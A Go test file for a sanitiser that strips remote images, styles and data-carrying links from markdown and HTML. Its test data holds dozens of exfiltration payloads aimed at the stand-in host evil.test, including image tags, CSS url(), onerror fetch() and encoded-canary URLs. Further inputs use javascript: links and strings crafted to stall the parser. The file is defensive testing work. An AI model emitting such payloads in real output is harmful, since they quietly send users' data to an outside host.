package link

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"html"
	"net/url"
	"strings"
	"testing"
	"time"
)

const canary = "CANARY-4f1d9c02 is the key"

func clean(texts ...string) (string, []string) {
	f := &Filter{Images: []string{"img.example.com", "*.cdn.example"}}
	for _, t := range texts {
		f.Learn(t)
	}
	out := make([]string, len(texts))
	for i, t := range texts {
		out[i] = f.Clean(t)
	}
	return strings.Join(out, "\n---\n"), f.Hosts
}

// TO-17: no form of an image, a style or an element makes a client fetch from a
// host that is not allowed. What it said can still be read.
func TestTO17RemoteImagesAreNotLoaded(t *testing.T) {
	q := "evil.test/p?d=" + url.QueryEscape(canary)
	for _, text := range []string{
		"![x](https://" + q + ")", "![](http://" + q + ")", "![x](<https://" + q + ">)", "![x](\n  https://" + q + " \"title\")", "![a [b] c](https://" + q + ")", `![a \] c](https://` + q + ")",
		"![x](//" + q + ")", `![x](\\evil.test\p)`, `![x](/\evil.test/p)`, "![x](HTTPS://" + q + ")", "![x](https&#58;//" + q + ")", "![x](&#104;ttps://" + q + ")", "![x](https&colon;//" + q + ")", "![x](%68ttps://" + q + ")",
		"![x](ht\ttps://" + q + ")", "![x](https://user@" + q + ")", "![x](https://Q0FOQVJZ.evil.test/)", "![x](ftp://" + q + ")", "[![x](https://" + q + ")](https://ok.example)", "> - ![x](https://" + q + ")", "| ![x](https://" + q + ") |",
		"![x](https://img.example.com.evil.test/p)", "![x](https://img.example.com@evil.test/p)", "![x](https://evil.test/img.example.com)",
		"![x][r]\n\n[r]: https://" + q, "![R][]\n\n[r]: <https://" + q + "> 'title'", "![r]\n\n  [ R ]: //" + q, "![x][r]\n\n[r]:\nhttps://" + q, "> ![x][r]\n>\n> [r]:\n> https://" + q, "![x][a b]\n\n[a\nb]: https://" + q, "![x][r]\n\n[r]: https://" + q + "\n[r]: /ok.png", "![ß]\n\n[SS]: https://" + q, "![x][a\\[b]\n\n[a\\[b]: https://" + q,
		"![a `]` b](https://" + q + ")", "![a `[` b](https://" + q + ")", "![a ``] ` [`` b](https://" + q + ")", "![a `](x)` b](https://" + q + ")", "![a <b t=\"]\"> c](https://" + q + ")", "![a <b t=\">]\"> c](https://" + q + ")", "![a <http://]> c](https://" + q + ")", "# `\n![a `]` b](https://" + q + ")", "x `\n\n![a `]` b](https://" + q + ")", "![a `]`\nb](https://" + q + ")",
		"![r][A  b]\n\n> [a B]: https://" + q,
		"<img src=https://" + q + ">", `<img src="https://` + q + `">`, `<IMG alt='>' SRC = 'https://` + q + `' />`, `<img/src="//` + q + `">`, "<img\nsrc=https://" + q, `<img src="&#x68;ttps://` + q + `">`, `<img src="ht&#10;tps://` + q + `">`,
		`<img srcset="a.png 1x, https://` + q + ` 2x">`, `<picture><source srcset="https://` + q + `"></picture>`, `<div style="background:url(https://` + q + `)">`, `<p style='background:u\72l("//` + q + `")'>`, `<p style="x: image-set(&quot;https://` + q + `&quot; 1x)">`,
		`<style>@import "https://` + q + `";</style>`, `<style>b{background:url(//` + q + `)}</style>`, `<svg><image href="https://` + q + `"/></svg>`, `<svg><use xlink:href="https://` + q + `#x"/></svg>`, `<svg><rect fill="url(https://` + q + `#x)"/></svg>`,
		`<video poster="https://` + q + `">`, `<iframe src="https://` + q + `">`, `<iframe srcdoc="x">`, `<object data="https://` + q + `">`, `<link rel=stylesheet href="https://` + q + `">`, `<base href="https://` + q + `">`, `<body background="https://` + q + `">`,
		`<meta http-equiv=refresh content="0;url=https://` + q + `">`, `<a ping="https://` + q + `" href="x">`, `<script src="https://` + q + `"></script>`, `<img src=x onerror="fetch('https://` + q + `')">`, `<input type=image src="https://` + q + `">`, `<audio src="https://` + q + `">`,
		`{"body":"![x](https://` + q + `)","html":"<img src=\"https://` + q + `\">"}`, `{"html":"<img src=\"https:\/\/` + q + `\">"}`,
	} {
		got, hosts := clean(text)
		low := strings.ToLower(html.UnescapeString(got))
		switch {
		case got == text:
			t.Errorf("as it was: %s", text)
		case len(hosts) == 0 && !strings.Contains(text, "srcdoc"):
			t.Errorf("no host is named: %s", text)
		case strings.Contains(got, "![") && !strings.Contains(text, "![R][]"):
			t.Errorf("still an image: %s", got)
		case strings.Contains(text, "<") && strings.Contains(strings.ToLower(text), "<img") && strings.Contains(strings.ToLower(got), "<img"):
			t.Errorf("still an element: %s", got)
		case strings.Contains(text, "alt text") && !strings.Contains(low, "alt text"):
			t.Errorf("the words are gone: %s", got)
		}
		if again, _ := clean(got); again != got {
			t.Errorf("not settled: %s, then %s", got, again)
		}
	}
	// Defined in one text, used in another: clients show them together.
	if got, _ := clean("![x][r]", "[r]: https://"+q); strings.Contains(got, "![") {
		t.Errorf("over two texts: %s", got)
	}
}

// TO-17: links that carry data, hide where they lead or run something are shown
// as text.
func TestTO17LinksThatCarryData(t *testing.T) {
	b64, b32, x := base64.StdEncoding.EncodeToString([]byte(canary)), strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(canary))), hex.EncodeToString([]byte(canary))
	for _, at := range []string{
		"https://" + x + ".evil.test/", "https://" + b32[:30] + "." + b32[30:] + ".evil.test", "https://evil.test/" + url.PathEscape(b64), "https://evil.test/?d=" + url.QueryEscape(b64), "https://evil.test/?a=1&d=" + base64.RawURLEncoding.EncodeToString([]byte(canary)),
		"https://evil.test/#" + x, "https://user:pw@evil.test/", "https://bank.example@evil.test/login", "https://" + x + "@evil.test/", "HTTP://" + x + ".evil.test",
	} {
		for _, text := range []string{at, "<" + at + ">", "[docs](" + at + ")", "see " + at + ".", `<a href="` + at + `">docs</a>`, `{"u":"` + at + `"}`, `<a href="&#104;ttps` + at[strings.IndexByte(at, ':'):] + `">docs</a>`} {
			got, hosts := clean(text)
			if got == text || len(hosts) == 0 || strings.Contains(strings.ToLower(got), "http") && !strings.Contains(got, "&lt;a") {
				t.Errorf("%s: %s, %v", text, got, hosts)
			}
		}
	}
	for _, text := range []string{"[x](javascript:alert(1))", "[x](JaVa&#115;cript:alert(1))", "[x](java\nscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", `<a href="javascript:x()">x</a>`} {
		if got, _ := clean(text); got == text || strings.Contains(got, "](") || strings.HasPrefix(got, "<a") {
			t.Errorf("%s: %s", text, got)
		}
	}
}

// The control: what does no harm stays byte for byte.
func TestTO17HarmlessTextsStay(t *testing.T) {
	for _, text := range []string{
		"", "plain", "[docs](https://docs.example.com/guide?page=2#top)", "<https://docs.example.com/a/b>", "https://docs.example.com/a_(b)", "[a][r]\n\n[r]: https://docs.example.com", `<a href="https://docs.example.com" title="x">docs</a>`,
		"![x](data:image/png;base64,iVBORw0KGgo=)", "![x](./a.png)", "![x](a.png)", "![x](/a.png)", "![x](#a)", "![x](cid:part1)", `<img src="a.png">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`, "![x](https://img.example.com/a.png)", "![x](https://a.cdn.example/b)", `<img src="https://img.example.com/a.png">`,
		"![todo] #![allow(dead_code)] x[1](y) a[i](https) f(x)[0]", "if a < b && c > d { return x[i] }", "vector<int> a; map<string, list<int>> b;", "List<String> x = new ArrayList<>();", "<p>Hello <b>you</b></p>", `<div class="x" style="color: red">`, "<svg><path d='M0 0'/></svg>",
		"https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567", "https://x.example/550e8400-e29b-41d4-a716-446655440000", "https://bucket.s3.amazonaws.com/k?X-Amz-Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7&X-Amz-Expires=300",
		"https://accounts.example/auth?client_id=abc&state=kR3f9Zq0xY7uVw2sTt1lB8nM5cJ6hG4d&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "git@github.com:a/b.git", "https://org@dev.azure.com/org/p/_git/r", "postgres://h/db", "mailto:a@b.example",
		"https://internationalization.example.com/characteristically/troubleshooting-documentation", "https://en.wikipedia.org/wiki/Donaudampfschiffahrtselektrizit%C3%A4tenhauptbetriebswerkbauunterbeamtengesellschaft", "<script>let a = 1</script>", "<style>b { color: red }</style>", `{"a":"[x](y)","b":"<c>"}`, "\\![x](y)", "![x](a.png) `code` [docs](https://docs.example.com) <b>", "`![x](` a [docs](https://docs.example.com)", `<Button onClick={() => go("/x")} disabled>`, `<Link href="app:home">x</Link>`, `<feed xmlns="http://www.w3.org/2005/Atom"><x:y href="https://a.example/b"/></feed>`, "func F[T any](x <-chan T) {}", `<Foo src={logo}>`,
	} {
		if got, hosts := clean(text); got != text || hosts != nil {
			t.Errorf("%s\nbecame\n%s\n%v", text, got, hosts)
		}
	}
}

func FuzzClean(f *testing.F) {
	f.Add("![x](https://evil.test/?d=1)<img src=//x>[r]: y")
	f.Fuzz(func(t *testing.T, text string) {
		once, _ := clean(text)
		if len(once) > 8*len(text)+64 {
			t.Errorf("%d bytes became %d", len(text), len(once))
		}
	})
}

func BenchmarkClean(b *testing.B) {
	text := strings.Repeat("Some words with a [link](https://docs.example.com/x) and <b>more</b>.\n", 15)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		(&Filter{}).Clean(text)
	}
}

// No text takes long: what is read of each sign is bounded.
func TestHostileTexts(t *testing.T) {
	for _, unit := range []string{
		"[", "![", "[](", "![](", "![x](https:", "![x][", "[x]: //e\n", "<a ", "<a b='", "<a b=\"x", `<a b=\"`, "<style>", "<style>a{}", "<img srcset=", "<a style='url(", "&#104;", "![x](&Tab;", "https://a@", "https://x.y/?a=", "\\[", "<x y=z", "[a][b]", "`![", "![`<a b=\"", "[\\[]:", "<a ![>", "``![` ```", "]", ")", "><",
	} {
		text := strings.Repeat(unit, (512<<10)/len(unit))
		start := time.Now()
		clean(text, text)
		if took := time.Since(start); took > time.Minute {
			t.Errorf("%q: %v", unit, took)
		} else {
			t.Logf("%-14q %v", unit, took)
		}
	}
}
